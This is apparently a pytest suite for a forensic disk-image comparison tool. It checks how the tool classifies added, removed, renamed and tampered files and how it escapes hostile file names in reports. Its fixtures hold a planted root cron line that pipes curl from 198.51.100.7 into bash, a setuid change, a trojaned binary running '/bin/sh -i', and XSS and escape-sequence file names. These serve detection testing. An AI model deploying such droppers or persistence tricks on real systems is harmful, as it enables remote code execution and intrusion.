# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What became of a disk between two moments, on real file systems."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from ansible_collections.dfir.aws.plugins.module_utils.triage import compare_content
from ansible_collections.dfir.aws.plugins.module_utils.triage.compare_blocks import Marks
from ansible_collections.dfir.aws.plugins.module_utils.triage.compare_report import report
from ansible_collections.dfir.aws.plugins.plugin_utils.report.render import render, short_text

from lab.evidence.lvm import Segment, Volume, VolumeGroup
from tests.unit.triage.compare_kit import (
    BLOCK,
    NOW,
    THEN,
    changes,
    compare,
    copy_of,
    edit,
    kinds,
    marks_of,
    overwrite,
    touch,
)
from tests.unit.triage.triage_kit import SYSTEM, disk, ext4, tree

pytestmark = pytest.mark.slow

LOG = "Sep  1 00:00:00 web-01 sshd[1]: Accepted publickey for deploy\n" * 100
FILES = {
    **SYSTEM, "opt/tool": b"\x7fELF" + b"tool-one" * 600, "opt/data": b"data-one" * 700, "opt/odd-size": b"o" * 5000,
    "var/log/auth.log": LOG, "opt/large": bytes(range(256)) * 12_000, "opt/left": "left alone", "opt/gone": "gone",
    "opt/here": "is renamed", "root/.bash_history": "ls\nuptime\n", "opt/linked": "two names\n", "opt/empty/x": "x",
}
ALL_OF_THEM = [f"/{name}" for name in FILES]
BOTH = pytest.mark.parametrize("blocks", [True, False], ids=["by blocks", "by entries"])


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A disk as it was, every time of its files long before what is done to it."""
    folder = tmp_path_factory.mktemp("base")
    image = ext4(folder / "base.img", tree(folder / "root", FILES))
    edit(image, *(line for path in ALL_OF_THEM for line in touch(path, mtime=THEN, ctime=THEN, crtime=THEN)))
    return image


@pytest.fixture
def new(base: Path, tmp_path: Path) -> Path:
    """The same disk, to be changed."""
    return copy_of(base, tmp_path / "new.img")


@BOTH
def test_nothing_changed(base: Path, new: Path, blocks: bool) -> None:
    one = compare(base, new, blocks=blocks)
    assert one.changes == [] and one.fresh == [] and one.gone == [] and one.kept > 3 and one.not_read == []


@BOTH
def test_each_kind_of_change_is_told_apart(base: Path, new: Path, tmp_path: Path, blocks: bool) -> None:
    (tmp_path / "dropper").write_text("* * * * * root curl -s http://198.51.100.7/y | bash\n")
    edit(new, f"write {tmp_path}/dropper /etc/cron.d/zz", "rm /opt/gone",
         "ln /opt/here /opt/there", "unlink /opt/here", *touch("/opt/there", ctime=NOW),
         "set_inode_field /opt/left mode 0104755", *touch("/opt/left", ctime=NOW), *touch("/opt/data", ctime=NOW))
    overwrite(new, b"data-one" * 700, b"data-two" * 700)
    edit(new, *touch("/opt/data", mtime=NOW))
    one = compare(base, new, blocks=blocks)
    assert kinds(one) == {"/etc/cron.d/zz": "added", "/opt/gone": "removed", "/opt/there": "renamed",
                          "/opt/left": "metadata", "/opt/data": "changed"}
    found = changes(one)
    assert found["/opt/there"].old and found["/opt/there"].old.path == b"/opt/here"
    assert found["/opt/there"].content == "same" and found["/opt/there"].severity == "info"
    assert found["/opt/left"].severity == "high" and "mode 0644 to 4755" in found["/opt/left"].what
    assert found["/etc/cron.d/zz"].severity == "high" and "198.51.100.7" in found["/etc/cron.d/zz"].excerpt
    assert found["/opt/data"].sha256 and found["/opt/data"].old_sha256 != found["/opt/data"].sha256
    assert [name for name, _change in one.changes] == ["p0"] * 5
    assert ("/etc/cron.d/zz", "cron_job") in {(finding.path, finding.rule) for _part, finding in one.fresh}
    order = ["critical", "high", "medium", "low", "info"]
    ranks = [order.index(change.severity) for _part, change in one.changes]
    assert ranks == sorted(ranks)


@BOTH
def test_a_time_that_was_set_back_is_only_metadata_and_suspicious(base: Path, new: Path, blocks: bool) -> None:
    edit(new, *touch("/opt/tool", mtime="@1500000000", ctime=NOW))
    [(_part, change)] = compare(base, new, blocks=blocks).changes
    assert (change.kind, change.content, change.severity) == ("metadata", "same", "medium")
    assert "set back" in change.reasons[0] and "2017-07-14" in change.reasons[0]


@BOTH
def test_a_content_that_changed_under_its_old_time(base: Path, new: Path, blocks: bool) -> None:
    overwrite(new, b"tool-one" * 600, b"tool-two" * 600)
    edit(new, *touch("/opt/tool", ctime=NOW))
    [(_part, change)] = compare(base, new, blocks=blocks).changes
    assert (change.kind, change.severity) == ("changed", "high") and "set back to what it was" in change.reasons[0]


def test_a_content_that_changed_past_the_file_system_is_seen_by_its_blocks(base: Path, new: Path) -> None:
    overwrite(new, b"tool-one" * 600, b"tool-two" * 600)
    [(_part, change)] = compare(base, new).changes
    assert (change.path, change.kind, change.severity) == (b"/opt/tool", "changed", "high")
    assert "none of its times" in change.reasons[0]
    by_entries = compare(base, new, blocks=False)
    assert by_entries.changes == [] and "taken for unchanged" in by_entries.warnings[0]


def test_neighbors_in_a_block_that_differs_are_not_called_changed(base: Path, new: Path) -> None:
    place = overwrite(new, b"data-one" * 700, b"data-two" * 700)
    edit(new, *touch("/opt/data", mtime=NOW, ctime=NOW))
    marks = marks_of(base, new)
    assert place // 524_288 in marks and len(marks) < 16
    neighbors = [name for name in FILES if name != "opt/data"
                 and new.read_bytes().find(str(FILES[name])[:40].encode()) // 524_288 == place // 524_288]
    assert len(neighbors) > 3, "nothing else lies in that block"
    assert kinds(compare(base, new)) == {"/opt/data": "changed"}


def test_bytes_behind_the_end_of_a_file_are_not_its_content(base: Path, new: Path) -> None:
    place = new.read_bytes().index(b"o" * 5000) + 5000
    with new.open("r+b") as file:
        file.seek(place)
        file.write(b"hidden")
    assert len(marks_of(base, new)) == 1 and compare(base, new).changes == []


def test_a_file_that_was_written_elsewhere_with_the_same_content_is_the_same(
        base: Path, new: Path, tmp_path: Path) -> None:
    (tmp_path / "again").write_bytes(bytes(FILES["opt/tool"]))  # type: ignore[arg-type]
    edit(new, "rm /opt/tool", f"write {tmp_path}/again /opt/tool")
    [(_part, change)] = compare(base, new).changes
    assert (change.path, change.kind, change.content) == (b"/opt/tool", "metadata", "same")


def test_a_log_that_became_shorter_and_a_history_that_is_gone(base: Path, new: Path) -> None:
    edit(new, *touch("/var/log/auth.log", size="640", mtime=NOW, ctime=NOW), "rm /root/.bash_history",
         "ln /var/log/syslog /var/log/syslog.1", "unlink /var/log/syslog")
    found = changes(compare(base, new))
    assert found["/var/log/auth.log"].severity == "high" and "shorter" in found["/var/log/auth.log"].reasons[0]
    assert "history of commands that is gone" in found["/root/.bash_history"].reasons[0]
    assert found["/var/log/syslog.1"].kind == "renamed" and found["/var/log/syslog.1"].reasons == []


def test_another_name_of_a_file_is_named(base: Path, new: Path) -> None:
    edit(new, "ln /opt/linked /opt/second", "set_inode_field /opt/linked links_count 2")
    found = changes(compare(base, new))
    assert found["/opt/second"].kind == "added" and "another name of /opt/linked" in found["/opt/second"].what
    assert found["/opt/linked"].kind == "metadata" and len(found) == 2


def test_hostile_names_stay_names(tmp_path: Path) -> None:
    bad = "<script>alert(1)<|script>"
    names = [f"tmp/{bad}", "tmp/\x1b[2J\nFAKE: nothing changed", "tmp/{{ 7 * 7 }}", "tmp/" + "n" * 250]
    small = {"etc/passwd": "root:x:0:0:root:/root:/bin/bash\n"}
    one = compare(ext4(tmp_path / "one.img", tree(tmp_path / "one", small), 8),
                  ext4(tmp_path / "two.img", tree(tmp_path / "two", {**small, **dict.fromkeys(names, "x")}), 8))
    assert {f"/{name}" for name in names} <= set(kinds(one))
    data = report(one, "", "", 1000)
    page, short = render(data), short_text(data, "report.html")
    assert bad not in page and "&lt;script&gt;alert(1)" in page and "{{ 7 * 7 }}" in page
    assert "\x1b" not in page + short and "\nFAKE" not in page + short


def test_a_folder_whose_list_was_written_and_holds_the_same(base: Path, new: Path) -> None:
    edit(new, *touch("/opt/empty", mtime=NOW, ctime=NOW))
    [(_part, change)] = compare(base, new).changes
    assert change.kind == "metadata" and "list of names was written" in change.what[0]
    edit(new, "rm /opt/empty/x")
    assert kinds(compare(base, new)) == {"/opt/empty/x": "removed"}, "now its names say why"


def test_what_is_read_ends_with_a_word(base: Path, new: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(compare_content, "MOST", 1 << 20)
    edit(new, *touch("/opt/large", mtime=NOW, ctime=NOW))
    one = compare(base, new, blocks=False)
    assert kinds(one) == {"/opt/large": "undecided"}
    assert any("1 files hold the same" in line and "first 1 MiB" in line for line in one.not_read)
    assert kinds(compare(base, new)) == {"/opt/large": "metadata"}, "by blocks, nothing has to be read"


def test_other_sizes_and_partitions_are_said(base: Path, new: Path, tmp_path: Path) -> None:
    edit(new, "rm /opt/gone")
    one = disk(tmp_path / "one.img", [base.read_bytes()])
    other = disk(tmp_path / "other.img", [new.read_bytes(), base.read_bytes()])
    found = compare(one, other)
    assert kinds(found) == {"/opt/gone": "removed"} and [part for part, _change in found.changes] == ["p1"]
    said = " ".join(found.warnings)
    assert "p2: only other.img has this file system" in said and "The disk had" in said


def test_the_report_tells_how_many_of_each_kind_and_how_it_was_found_out(base: Path, new: Path) -> None:
    edit(new, "rm /opt/gone", *touch("/opt/tool", mtime="@1500000000", ctime=NOW))
    data = report(compare(base, new), "2026-11-24T03:00:00Z", "2026-11-28T03:00:00Z", 1000)
    facts = {fact["label"]: fact["value"] for fact in data["facts"]}
    assert facts["Changes"].startswith("1 removed, 1 only metadata of ") and facts["Removed"] == "1"
    assert facts["Compared by"].startswith("changed blocks; ") and facts["Why so"] == "by test"
    assert data["kinds"] == {"added": 0, "removed": 1, "changed": 0, "renamed": 0, "metadata": 1, "undecided": 0}
    assert {row["path"]: row["rank"] for row in data["tables"][0]["rows"]} == {"/opt/tool": 1, "/opt/gone": 2}
    assert {row[2] for row in data["timeline"]["rows"]} == {"/opt/tool"}
    page = render(data)
    assert "Comparison" in page and "What changed" in page
    short = short_text(data, "report.html").splitlines()
    assert len(short) <= 25 and any("1 removed, 1 only metadata" in line for line in short)


def test_a_damaged_older_disk_makes_nothing_new(base: Path, new: Path, tmp_path: Path) -> None:
    """An entry of a folder that cannot be read there is not called added."""
    broken = copy_of(base, tmp_path / "broken.img")
    edit(broken, "clri /opt/gone", "clri /opt/left")
    one = compare(broken, new, blocks=False)
    assert "/opt/gone" not in kinds(one) and any("2 entries" in line for line in one.not_read), one.not_read


def test_xfs_is_followed_by_its_blocks(tmp_path: Path) -> None:
    """A file system of another kind, made by its own tool from a list of files."""
    (tmp_path / "tool").write_bytes(b"tool-one" * 600)
    (tmp_path / "other").write_bytes(b"other" * 600)
    files = f"/ 0 0\nd--755 0 0\ntool ---755 0 0 {tmp_path}/tool\nother ---644 0 0 {tmp_path}/other\n$\n"
    (tmp_path / "proto").write_text(files)
    base = tmp_path / "base.img"
    with base.open("wb") as file:
        file.truncate(320 << 20)
    if not shutil.which("mkfs.xfs"):
        pytest.skip("mkfs.xfs makes the disk")
    subprocess.run(["mkfs.xfs", "-q", "-p", tmp_path / "proto", base], check=True, capture_output=True)
    new = tmp_path / "new.img"
    subprocess.run(["cp", "--sparse=always", base, new], check=True)
    place = overwrite(new, b"tool-one" * 600, b"tool-two" * 600)
    one = compare(base, new, marks=Marks(640, [place // BLOCK]))
    assert kinds(one) == {"/tool": "changed"} and one.warnings == []


def test_a_file_system_that_is_not_followed_is_compared_by_entries_and_says_so(tmp_path: Path) -> None:
    base = tmp_path / "base.img"
    with base.open("wb") as file:
        file.truncate(4 << 20)
    (tmp_path / "tool").write_bytes(b"tool-one" * 600)
    subprocess.run(["mkfs.vfat", base], check=True, capture_output=True)
    subprocess.run(["mcopy", "-i", base, tmp_path / "tool", "::tool"], check=True, capture_output=True)
    new = copy_of(base, tmp_path / "new.img")
    overwrite(new, b"tool-one" * 600, b"tool-two" * 600)
    one = compare(base, new)
    assert one.changes == [] and "taken for unchanged" in one.warnings[0]
    subprocess.run(["mdel", "-i", new, "::tool"], check=True, capture_output=True)
    assert kinds(compare(base, new)) == {"/tool": "removed"}


@pytest.mark.parametrize("stripes", [1, 2], ids=["pieces", "stripes"])
def test_a_logical_volume_is_followed_through_its_pieces_and_not_through_stripes(
        base: Path, tmp_path: Path, stripes: int) -> None:
    places = [[9], [2], [7], [0]] if stripes == 1 else [[9, 2], [7, 0]]
    disks = []
    for name in ("one", "two"):
        content, whole = copy_of(base, tmp_path / f"{name}.fs"), tmp_path / f"{name}.img"
        if name == "two":
            overwrite(content, b"tool-one" * 600, b"tool-two" * 600)
        with whole.open("wb") as file:
            file.truncate(64 << 20)
        width = [128] if stripes > 1 else []
        segments = [Segment(stripes, [(0, extent) for extent in row], *width) for row in places]
        VolumeGroup("vg", [whole], [Volume("root", segments, content)]).write()
        disks.append(whole)
    one = compare(*disks)
    if stripes == 1:
        assert [(part, change.path) for part, change in one.changes] == [("p0.lv1", b"/opt/tool")]
        assert one.warnings == []
    else:
        assert one.changes == [] and "taken for unchanged" in " ".join(one.warnings)


def test_a_package_that_came_in_between_explains_its_files_and_no_others(tmp_path: Path) -> None:
    """dpkg's own lists, in which one package is older than both moments and one came anew."""
    names = [f"usr/bin/tool-{number}" for number in range(60)]
    listed = "".join(f"/{name}\n" for name in names)
    info = "var/lib/dpkg/info"
    files: dict[str, str | bytes] = {
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n", f"{info}/old.list": listed,
        f"{info}/anew.list": "/usr/bin/anew\n", "usr/bin/anew": "version 1\n", **dict.fromkeys(names, "#!/bin/sh\n")}
    base = ext4(tmp_path / "base.img", tree(tmp_path / "root", files), 8)
    new = copy_of(base, tmp_path / "new.img")
    for name, content in (("anew", "version 2\n"), ("tool", "#!/bin/sh\n/bin/sh -i\n"), ("list", "/usr/bin/anew\n")):
        (tmp_path / name).write_text(content)
    edit(new, "rm /usr/bin/anew", f"write {tmp_path}/anew /usr/bin/anew", "rm /usr/bin/tool-7",
         f"write {tmp_path}/tool /usr/bin/tool-7", f"rm /{info}/anew.list",
         f"write {tmp_path}/list /{info}/anew.list", f"write {tmp_path}/tool /usr/bin/foreign",
         *(line for name in ("anew", "tool-7", "foreign") for line in touch(f"/usr/bin/{name}", mtime=NOW, ctime=NOW)),
         *touch(f"/{info}/anew.list", mtime=NOW, ctime=NOW))
    found = changes(compare(base, new))
    assert found["/usr/bin/anew"].severity == "info" and "a package" in found["/usr/bin/anew"].reasons[0]
    assert found["/usr/bin/tool-7"].severity == "high" and "did not come anew" in found["/usr/bin/tool-7"].reasons[0]
    assert found["/usr/bin/foreign"].severity == "medium" and "no package" in found["/usr/bin/foreign"].reasons[0]
